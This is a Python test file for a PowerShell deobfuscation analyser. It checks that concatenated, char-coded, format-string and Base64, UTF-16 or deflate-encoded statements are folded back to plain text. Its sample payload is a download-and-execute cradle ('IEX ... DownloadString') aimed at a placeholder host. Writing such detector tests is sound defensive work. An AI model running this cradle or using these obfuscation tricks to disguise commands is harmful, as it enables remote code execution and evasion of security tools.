"""Constants in PowerShell."""

import base64
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import PayloadKind
from pratique.analysis.languages.shell.powershell_folding import decoded_literals, folded

SCRIPT = b"IEX (New-Object Net.WebClient).DownloadString('http://p.invalid/b')"


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(data) + packer.flush()


@pytest.mark.parametrize(
    ("expected", "statement"),
    [
        ("iex", "i`e`x"),
        ("'abc'", "'a'+'b' + 'c'"),
        ("'AB'", "[char]65+[char]0x42"),
        ("'abc'", "(\"{2}{0}{1}\" -f 'b','c','a')"),
        ("'abc'", "('a','b','c') -join ''"),
        ("'abc'", "-join('a','b','c')"),
        ("'abc'", "'cba'[-1..-3] -join ''"),
        ("'abc'", "'aXc'.Replace('X','b')"),
        ("x 'known'", "x $a"),
        ("x $b", "x $b"),
    ],
)
def test_disguises_are_put_together(expected: str, statement: str) -> None:
    assert expected == folded(statement, {"a": "known"})


@pytest.mark.parametrize("data", [SCRIPT, SCRIPT.decode().encode("utf-16-le"), deflated(SCRIPT)])
def test_encoded_scripts_are_told_in_plain_text(data: bytes) -> None:
    statement = f"[Convert]::FromBase64String('{base64.b64encode(data).decode()}')"

    assert [(SCRIPT, PayloadKind.SCRIPT)] == list(decoded_literals(statement))


def test_encoded_data_that_does_not_run_is_nothing() -> None:
    assert [] == list(decoded_literals(f"FromBase64String('{base64.b64encode(bytes(range(90))).decode()}')"))


@pytest.mark.fuzz
@given(st.text(alphabet="a'\"+-f{0}[]char65 ,()join`$", max_size=60))
def test_any_statement_is_put_together(statement: str) -> None:
    assert isinstance(folded(statement, {"a": "b"}), str)
